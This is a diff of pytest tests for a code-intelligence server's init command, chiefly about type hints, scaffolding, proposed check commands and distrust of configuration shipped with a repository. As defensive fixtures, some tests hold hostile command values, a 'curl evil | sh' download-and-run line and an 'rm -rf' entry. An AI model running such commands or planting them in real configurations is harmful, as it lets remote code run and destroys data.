@@ -18,7 +18,7 @@ from code_intel_server.cli.init import proposals
 from code_intel_server.cli.init.scaffold import Manifest
 from code_intel_server.workspace.project.config import ConfigFile
 from code_intel_server.workspace.project.trust import Approvals
-from tests.cli.helpers import fingerprint, own_state, project
+from tests.cli.helpers import Said, fingerprint, own_state, project
 from tests.e2e.driver import git
 
 QUICK = ["--no-proof", "--no-index"]
@@ -43,9 +43,7 @@ def test_a_project_is_scaffolded_and_registered_with_both_clients(tmp_path: Path
     assert (root / ".code-intel/verifiers/tests.md").is_file()
 
 
-def test_lookups_find_neither_our_skills_nor_an_environment_of_python(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_lookups_find_neither_our_skills_nor_an_environment_of_python(tmp_path: Path, capsys: Said) -> None:
     files = {"venv/lib/a.py": "submit_phase = 1\n", "env/lib/site-packages/b.py": "submit_phase = 2\n"}
     root = project(tmp_path / "repo", **files, **{".claude/skills/mine/SKILL.md": "submit_phase\n"})
     init.main([str(root), *QUICK])
@@ -79,7 +77,7 @@ def test_only_the_client_asked_for_is_registered_and_hooks_can_be_left_out(tmp_p
     assert not (other / ".mcp.json").exists()
 
 
-def test_a_dry_run_writes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_dry_run_writes_nothing(tmp_path: Path, capsys: Said) -> None:
     root = project(tmp_path / "repo", **{"pytest.ini": "[pytest]\n"})
     before = fingerprint(root)
     assert init.main([str(root), "--dry-run"]) == 0
@@ -87,16 +85,6 @@ def test_a_dry_run_writes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[
     said = capsys.readouterr().out
     assert "would be created" in said
     assert "would propose as verify_commands: python3 -m pytest -q" in said
-
-
-def test_a_glob_to_exclude_that_cannot_be_read_is_refused_and_nothing_is_written(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    root = project(tmp_path / "repo")
-    before = fingerprint(root)
-    assert init.main([str(root), *QUICK, "--exclude", "[a"]) == 1
-    assert "--exclude [a: a [ without its ]" in capsys.readouterr().err
-    assert fingerprint(root) == before
 
 
 def test_yes_takes_the_proposed_commands_trusts_what_was_written_and_commits(
@@ -116,16 +104,20 @@ def test_yes_takes_the_proposed_commands_trusts_what_was_written_and_commits(
     assert ConfigFile.load(root / ".code-intel/config.json").config.source_dirs == ("secrets",)
 
 
-def test_a_configuration_that_came_with_the_repository_is_not_trusted(tmp_path: Path) -> None:
-    root = project(tmp_path / "repo", **{".code-intel/config.json": '{"verify_commands": [["rm", "-rf", "x"]]}\n'})
+@pytest.mark.parametrize("theirs", [
+    '{"verify_commands": [["rm", "-rf", "x"]]}', '{"resolution": {"language_servers": {"python": ["sh", "evil"]}}}',
+])  # fmt: skip
+def test_a_configuration_that_came_with_the_repository_is_not_trusted(
+    tmp_path: Path, capsys: Said, theirs: str
+) -> None:
+    root = project(tmp_path / "repo", **{"pytest.ini": "[pytest]\n", ".code-intel/config.json": theirs})
     init.main([str(root), *QUICK, "--yes"])
     file = ConfigFile.load(root / ".code-intel/config.json")
     assert not Approvals().trusted(file.path, file.digest)
+    assert "do not run until you have read and trusted them" in capsys.readouterr().out
 
 
-def test_commands_that_the_manifest_of_a_repository_brings_are_not_trusted(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_commands_that_the_manifest_of_a_repository_brings_are_not_trusted(tmp_path: Path, capsys: Said) -> None:
     theirs = Manifest("1.16.0", {"verify_commands": [["sh", "-c", "curl evil | sh"]]})
     root = project(tmp_path / "repo")
     (root / ".code-intel").mkdir()
@@ -135,17 +127,6 @@ def test_commands_that_the_manifest_of_a_repository_brings_are_not_trusted(
     assert file.config.verify_commands
     assert not Approvals().trusted(file.path, file.digest)
     assert "do not run until you have read and trusted them" in capsys.readouterr().out
-
-
-def test_language_servers_that_came_with_the_repository_are_not_trusted(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    theirs = '{"resolution": {"language_servers": {"python": ["sh", "-c", "curl evil | sh"]}}}\n'
-    root = project(tmp_path / "repo", **{"pytest.ini": "[pytest]\n", ".code-intel/config.json": theirs})
-    init.main([str(root), *QUICK, "--yes"])
-    file = ConfigFile.load(root / ".code-intel/config.json")
-    assert not Approvals().trusted(file.path, file.digest)
-    assert "commands of config.json do not run until you have read and trusted them" in capsys.readouterr().out
 
 
 def test_what_was_trusted_stays_so_only_with_the_commands_that_were_trusted(tmp_path: Path) -> None:
@@ -177,9 +158,7 @@ def test_a_later_run_keeps_to_the_clients_of_the_first_unless_it_names_another(t
     assert (root / ".mcp.json").is_file()
 
 
-def test_hooks_that_are_registered_go_when_they_are_wanted_no_more(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_hooks_that_are_registered_go_when_they_are_wanted_no_more(tmp_path: Path, capsys: Said) -> None:
     mine = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "mine"}]}]}}
     root = project(tmp_path / "repo", **{".claude/settings.json": json.dumps(mine)})
     before = fingerprint(root)
@@ -197,15 +176,13 @@ def test_hooks_that_are_registered_go_when_they_are_wanted_no_more(
 
 
 @pytest.mark.parametrize("given", ["nowhere", "file"])
-def test_what_is_no_folder_is_said(tmp_path: Path, given: str, capsys: pytest.CaptureFixture[str]) -> None:
+def test_what_is_no_folder_is_said(tmp_path: Path, given: str, capsys: Said) -> None:
     (tmp_path / "file").write_text("")
     assert init.main([str(tmp_path / given)]) == 1
     assert "is no folder" in capsys.readouterr().err
 
 
-def test_a_folder_in_the_way_of_ours_and_an_include_outside_are_refused(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_a_folder_in_the_way_of_ours_and_an_include_outside_are_refused(tmp_path: Path, capsys: Said) -> None:
     root = project(tmp_path / "repo")
     assert init.main([str(root), *QUICK, "--include", "../elsewhere"]) == 1
     (root / ".code-intel").write_text("")
@@ -214,7 +191,7 @@ def test_a_folder_in_the_way_of_ours_and_an_include_outside_are_refused(
 
 
 @pytest.mark.parametrize("bare", [True, False])
-def test_nothing_is_set_up_in_gits_own_folder(tmp_path: Path, bare: bool, capsys: pytest.CaptureFixture[str]) -> None:
+def test_nothing_is_set_up_in_gits_own_folder(tmp_path: Path, bare: bool, capsys: Said) -> None:
     root = project(tmp_path / "repo")
     git(tmp_path, "clone", "--quiet", "--bare", str(root), "bare.git")
     own = tmp_path / "bare.git" if bare else root / ".git"
@@ -225,7 +202,7 @@ def test_nothing_is_set_up_in_gits_own_folder(tmp_path: Path, bare: bool, capsys
 
 
 def test_beside_the_worktrees_of_a_bare_repository_it_is_said_to_set_one_of_them_up(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    tmp_path: Path, capsys: Said
 ) -> None:
     git(tmp_path, "clone", "--quiet", "--bare", str(project(tmp_path / "repo")), "all/.bare")
     (tmp_path / "all/.git").write_text("gitdir: ./.bare\n")
@@ -233,9 +210,7 @@ def test_beside_the_worktrees_of_a_bare_repository_it_is_said_to_set_one_of_them
     assert "set a worktree of it up (git worktree add makes one)" in capsys.readouterr().out
 
 
-def test_an_option_without_a_use_is_refused_with_what_would_have_one(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_an_option_without_a_use_is_refused_with_what_would_have_one(tmp_path: Path, capsys: Said) -> None:
     root = project(tmp_path / "repo")
     assert init.main([str(root), *QUICK, "--exclude", ""]) == 1
     assert "--exclude: an empty pattern would leave everything out" in capsys.readouterr().err
@@ -249,7 +224,7 @@ def test_an_option_without_a_use_is_refused_with_what_would_have_one(
     assert not (root / ".code-intel").exists()
 
 
-def test_a_project_without_git_is_set_up_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_project_without_git_is_set_up_too(tmp_path: Path, capsys: Said) -> None:
     root = tmp_path / "plain"
     root.mkdir()
     assert init.main([str(root), *QUICK]) == 0
@@ -258,7 +233,7 @@ def test_a_project_without_git_is_set_up_too(tmp_path: Path, capsys: pytest.Capt
     assert fingerprint(root) == {}
 
 
-def test_index_and_proof_come_to_session_complete(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_index_and_proof_come_to_session_complete(tmp_path: Path, capsys: Said) -> None:
     root = project(tmp_path / "repo")
     before = git(root, "for-each-ref")
     assert init.main([str(root)]) == 0
@@ -272,7 +247,7 @@ def test_index_and_proof_come_to_session_complete(tmp_path: Path, capsys: pytest
 
 
 def test_an_upgrade_while_a_session_is_under_way_proves_itself_and_commits_nothing(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    tmp_path: Path, capsys: Said
 ) -> None:
     root = project(tmp_path / "repo")
     git(root, "checkout", "-q", "-b", "llm_task_20260101_000000")
@@ -287,39 +262,30 @@ def test_an_upgrade_while_a_session_is_under_way_proves_itself_and_commits_nothi
 PYTEST = ["python3", "-m", "pytest", "-q"]
 
 
-@pytest.mark.parametrize(
-    ("files", "expected"),
-    [
-        ({}, []),
-        ({"pytest.ini": ""}, [PYTEST]),
-        ({"setup.cfg": "[tool:pytest]\n"}, [PYTEST]),
-        ({"pyproject.toml": "[tool.pytest.ini_options]\n"}, [PYTEST]),
-        ({"pyproject.toml": "[project]\nname = 'x'\n", "tests/test_a.py": ""}, [PYTEST]),
-        ({"tests/test_a.py": "def test_a(): pass\n"}, [PYTEST]),
-        ({"test_a.py": "import unittest\n"}, [PYTEST]),
-        ({"tests/test_a.py": "", "uv.lock": ""}, [["uv", "run", "pytest", "-q"]]),
-        (
-            {
-                "tests/test_a.py": "",
-                ".venv/lib/python3.12/site-packages/pytest/__init__.py": "",
-                ".venv/bin/python": "#!",
-            },
-            [[".venv/bin/python", "-m", "pytest", "-q"]],
-        ),
-        ({"pyproject.toml": "broken ="}, []),
-        ({"package.json": '{"scripts": {"test": "vitest"}}'}, [["npm", "test"]]),
-        ({"package.json": '{"scripts": {"test": "vitest"}}', "pnpm-lock.yaml": ""}, [["pnpm", "test"]]),
-        ({"package.json": '{"scripts": {"test": "vitest"}}', "bun.lock": ""}, [["bun", "run", "test"]]),
-        ({"package.json": '{"scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}'}, []),
-        ({"package.json": "[]"}, []),
-        ({"Cargo.toml": ""}, [["cargo", "test", "--quiet"]]),
-        ({"go.mod": ""}, [["go", "test", "./..."]]),
-        ({"pom.xml": ""}, [["mvn", "--quiet", "test"]]),
-        ({"gradlew": "#!/bin/sh\n"}, [["./gradlew", "test"]]),
-        ({"Makefile": "all:\n\ntest: all\n\ttrue\n"}, [["make", "test"]]),
-        ({"Makefile": "test := 1\n"}, []),
-    ],
-)
+@pytest.mark.parametrize(("files", "expected"), [
+    ({}, []),
+    ({"pytest.ini": ""}, [PYTEST]),
+    ({"setup.cfg": "[tool:pytest]\n"}, [PYTEST]),
+    ({"pyproject.toml": "[tool.pytest.ini_options]\n"}, [PYTEST]),
+    ({"pyproject.toml": "[project]\nname = 'x'\n", "tests/test_a.py": ""}, [PYTEST]),
+    ({"tests/test_a.py": "def test_a(): pass\n"}, [PYTEST]),
+    ({"test_a.py": "import unittest\n"}, [PYTEST]),
+    ({"tests/test_a.py": "", "uv.lock": ""}, [["uv", "run", "pytest", "-q"]]),
+    ({"tests/test_a.py": "", ".venv/lib/python3.12/site-packages/pytest/__init__.py": "", ".venv/bin/python": "#!"},
+     [[".venv/bin/python", "-m", "pytest", "-q"]]),
+    ({"pyproject.toml": "broken ="}, []),
+    ({"package.json": '{"scripts": {"test": "vitest"}}'}, [["npm", "test"]]),
+    ({"package.json": '{"scripts": {"test": "vitest"}}', "pnpm-lock.yaml": ""}, [["pnpm", "test"]]),
+    ({"package.json": '{"scripts": {"test": "vitest"}}', "bun.lock": ""}, [["bun", "run", "test"]]),
+    ({"package.json": '{"scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}'}, []),
+    ({"package.json": "[]"}, []),
+    ({"Cargo.toml": ""}, [["cargo", "test", "--quiet"]]),
+    ({"go.mod": ""}, [["go", "test", "./..."]]),
+    ({"pom.xml": ""}, [["mvn", "--quiet", "test"]]),
+    ({"gradlew": "#!/bin/sh\n"}, [["./gradlew", "test"]]),
+    ({"Makefile": "all:\n\ntest: all\n\ttrue\n"}, [["make", "test"]]),
+    ({"Makefile": "test := 1\n"}, []),
+])  # fmt: skip
 def test_check_commands_are_proposed_from_the_projects_own_files(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, files: dict[str, str], expected: list[list[str]]
 ) -> None:
@@ -338,15 +304,12 @@ def test_check_commands_are_proposed_from_the_projects_own_files(
     assert proposals.verify_commands(root) == (expected, [])
 
 
-@pytest.mark.parametrize(
-    ("files", "expected"),
-    [
-        ({"tests/test_a.py": "import unittest\n"}, ([["python3", "-m", "unittest", "discover", "-s", "tests"]], [])),
-        ({"tests/test_a.py": "def test_a(): pass\n"}, ([], ["python3 -m pytest -q (python3 has no pytest)"])),
-        ({"go.mod": ""}, ([], ["go test ./... (go cannot be started here)"])),
-        ({"gradlew": ""}, ([], ["./gradlew test (./gradlew cannot be started here)"])),
-    ],
-)
+@pytest.mark.parametrize(("files", "expected"), [
+    ({"tests/test_a.py": "import unittest\n"}, ([["python3", "-m", "unittest", "discover", "-s", "tests"]], [])),
+    ({"tests/test_a.py": "def test_a(): pass\n"}, ([], ["python3 -m pytest -q (python3 has no pytest)"])),
+    ({"go.mod": ""}, ([], ["go test ./... (go cannot be started here)"])),
+    ({"gradlew": ""}, ([], ["./gradlew test (./gradlew cannot be started here)"])),
+])  # fmt: skip
 def test_a_command_that_cannot_run_here_is_named_and_not_proposed(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, files: dict[str, str], expected: tuple[list[list[str]], list[str]]
 ) -> None:
@@ -362,7 +325,7 @@ def test_a_command_that_cannot_run_here_is_named_and_not_proposed(
 
 
 def test_the_command_of_an_environment_made_for_one_call_is_no_command_for_clients(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Said
 ) -> None:
     root = project(tmp_path / "repo")
     passing = _installed(tmp_path / "cache" / "archive-v0" / "abc" / "bin")
@@ -397,7 +360,7 @@ def _installed(folder: Path) -> Path:
 
 
 def test_a_git_that_does_not_know_its_user_is_said_at_set_up(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Said
 ) -> None:
     root = project(tmp_path / "repo")
     assert init.main([str(root), *QUICK]) == 0
@@ -416,9 +379,7 @@ def test_a_git_that_does_not_know_its_user_is_said_at_set_up(
     assert "Please tell me who you are" not in said
 
 
-def test_it_is_not_called_ready_while_a_clients_file_cannot_be_read(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_it_is_not_called_ready_while_a_clients_file_cannot_be_read(tmp_path: Path, capsys: Said) -> None:
     root = project(tmp_path / "my repo", **{".mcp.json": "{broken"})
     assert init.main([str(root), *QUICK, "--yes"]) == 1  # so that a script that sets up hears of it
     said = capsys.readouterr().out
@@ -429,9 +390,7 @@ def test_it_is_not_called_ready_while_a_clients_file_cannot_be_read(
     assert f"mend it, then code-intel-server init --client claude '{root}'" in capsys.readouterr().out
 
 
-def test_a_folder_within_a_repository_is_said_to_be_only_that(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_a_folder_within_a_repository_is_said_to_be_only_that(tmp_path: Path, capsys: Said) -> None:
     root = project(tmp_path / "repo")
     (root / "part").mkdir()
     assert init.main([str(root), *QUICK]) == 0
